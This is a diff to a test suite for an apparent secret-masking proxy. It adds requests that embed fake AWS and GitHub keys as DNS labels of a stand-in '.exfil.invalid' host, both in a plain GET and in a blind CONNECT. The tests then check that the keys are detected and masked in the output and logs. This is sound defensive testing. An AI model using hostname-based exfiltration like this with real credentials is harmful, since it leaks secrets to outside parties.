@@ -83,6 +83,21 @@ console.log('r4', await new Promise((resolve) => {
   req.on('error', (e) => resolve('error ' + e.code));
   req.end();
 }));
+// A key as a DNS label, in a plain request and in a blind CONNECT: found, and never
+// given back through \`dest\` (hosts arrive lower-cased) or a trace line.
+function toHost(method, target, host) {
+  return new Promise((resolve) => {
+    const req = request({ host: '127.0.0.1', port, method, path: target,
+      headers: { host, 'proxy-authorization': 'Basic ' + Buffer.from('agent:' + s.runtimeToken).toString('base64') } });
+    const done = (res, socket) => { socket?.destroy(); res.resume(); resolve(res.statusCode); };
+    req.on('connect', done);
+    req.on('response', (res) => done(res));
+    req.on('error', (e) => resolve('error ' + e.code));
+    req.end();
+  });
+}
+console.log('r5', await toHost('GET', 'http://' + s.hostAws + '.exfil.invalid/p', s.hostAws + '.exfil.invalid'));
+console.log('r6', await toHost('CONNECT', s.hostGithub + '.exfil.invalid:443', s.hostGithub + '.exfil.invalid:443'));
 await new Promise((r) => setTimeout(r, 300));
 console.log('status', JSON.stringify(svc.status()));
 console.log('findings', JSON.stringify(svc.findings({ limit: 100 })));
@@ -131,6 +146,7 @@ describe('secrets stay secret under RUST_LOG=trace', () => {
   let dir: string;
   let run: Run;
   let secrets: string[];
+  let hostSecrets: string[];
   let home: string;
 
   beforeAll(async () => {
@@ -139,16 +155,19 @@ describe('secrets stay secret under RUST_LOG=trace', () => {
     home = join(dir, 'home');
     const set = makeSecretSet();
     const github2 = makeSecretSet().github;
+    hostSecrets = [makeSecretSet().aws, makeSecretSet().github];
     const s = {
       ...set,
       github2,
+      hostAws: hostSecrets[0],
+      hostGithub: hostSecrets[1],
       home,
       runtimeToken: fakeRuntimeToken(),
       wrongToken: fakeRuntimeToken(),
       badToken: fakeRuntimeToken(),
       proxyPassword: fakeRuntimeToken(),
     };
-    secrets = [...set.all, github2, s.runtimeToken, s.wrongToken, s.badToken, s.proxyPassword];
+    secrets = [...set.all, github2, ...hostSecrets, s.runtimeToken, s.wrongToken, s.badToken, s.proxyPassword];
     const secretsFile = join(dir, 'secrets.json');
     await writeFile(secretsFile, JSON.stringify(s), { mode: 0o600 });
     const script = join(dir, 'child.mjs');
@@ -186,6 +205,16 @@ describe('secrets stay secret under RUST_LOG=trace', () => {
     // The planted items were detected (so the secrets really passed through).
     expect(run.stdout).toContain('"pattern":"aws_access_key_id"');
     expect(run.stdout).toContain('stopped');
+  });
+
+  it('a key used as a host name is found and comes back in no field, in any case', async () => {
+    expect(run.stdout).toMatch(/"dest":"\[MASKED\]\.exfil\.invalid:80"/);
+    expect(run.stdout).toMatch(/"dest":"\[MASKED\]\.exfil\.invalid:443"/);
+    const jsonl = await readFile(join(home, 'logs', 'findings.jsonl'), 'utf8');
+    const lower = [run.stdout, run.stderr, jsonl].join('\n').toLowerCase();
+    expect(findLeaks(lower, hostSecrets.map((h) => h.toLowerCase()))).toEqual([]);
+    // The trace output did mention the blind CONNECT (masked).
+    expect(run.stderr).toContain('[MASKED].exfil.invalid:443');
   });
 
   it('no secret appears in stdout (logger, status, findings, errors, CA results)', () => {
